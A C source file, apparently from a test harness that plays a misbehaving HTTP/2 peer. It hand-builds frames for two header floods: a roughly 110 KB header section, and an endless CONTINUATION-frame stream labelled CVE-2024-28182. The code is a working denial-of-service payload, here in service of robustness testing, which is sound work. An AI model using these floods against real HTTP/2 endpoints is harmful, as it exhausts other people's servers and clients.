/* Headers without end, as frames of our own making: nghttp2 would not send them. Nothing of them goes
 * into the table that both sides keep, so that the connection is as good as before. */
#include <string.h>

#include "crook.h"

#define FRAME_HEADER 9
#define FRAME_MAX 16000
#define VALUE_MAX 100
#define HEADERS_FRAMES 7	 /* with their end: a decoder may be asked that much */
#define CONTINUATION_FRAMES 4096 /* without */

static void
frame(struct conn *conn, uint8_t type, uint8_t flags, int32_t stream, const struct buf *payload)
{
	uint8_t head[FRAME_HEADER] = { (uint8_t)(payload->len >> 16), (uint8_t)(payload->len >> 8),
		(uint8_t)payload->len, type, flags, (uint8_t)(stream >> 24),
		(uint8_t)(stream >> 16), (uint8_t)(stream >> 8), (uint8_t)stream };

	buf_add(&conn->out, head, sizeof(head));
	buf_add(&conn->out, payload->data, payload->len);
}

/* Fills up to len octets with literals that no table keeps (RFC 7541 section 6.2.2). */
static void
fill(struct buf *block, size_t len)
{
	static const uint8_t head[] = { 0x00, 7, 'x', '-', 'f', 'l', 'o', 'o', 'd', VALUE_MAX };
	uint8_t value[VALUE_MAX];

	memset(value, 'f', sizeof(value));
	while (block->len + sizeof(head) + sizeof(value) <= len) {
		buf_add(block, head, sizeof(head));
		buf_add(block, value, sizeof(value));
	}
}

static void
flood(struct request *r, size_t frames, size_t len, bool ends)
{
	static const uint8_t status_200 = 0x88;
	struct conn *conn = r->conn;
	struct buf block = { 0 };

	http_collect(conn); /* what nghttp2 has to say goes first */
	buf_add(&block, &status_200, 1);
	for (size_t i = 0; i < frames; i++) {
		fill(&block, len);
		frame(conn, i ? NGHTTP2_CONTINUATION : NGHTTP2_HEADERS,
		    ends && i + 1 == frames ? NGHTTP2_FLAG_END_HEADERS : 0, r->stream, &block);
		block.len = 0;
	}
	if (ends)
		frame(conn, NGHTTP2_DATA, NGHTTP2_FLAG_END_STREAM, r->stream, &r->answer);
	buf_free(&block);
}

/* A whole header section of some 110 KB, and behind it the right answer. */
void
flood_headers(struct request *r)
{
	flood(r, HEADERS_FRAMES, FRAME_MAX, true);
}

/* A header section that never ends, in small pieces (CVE-2024-28182). */
void
flood_continuations(struct request *r)
{
	flood(r, CONTINUATION_FRAMES, 200, false);
}
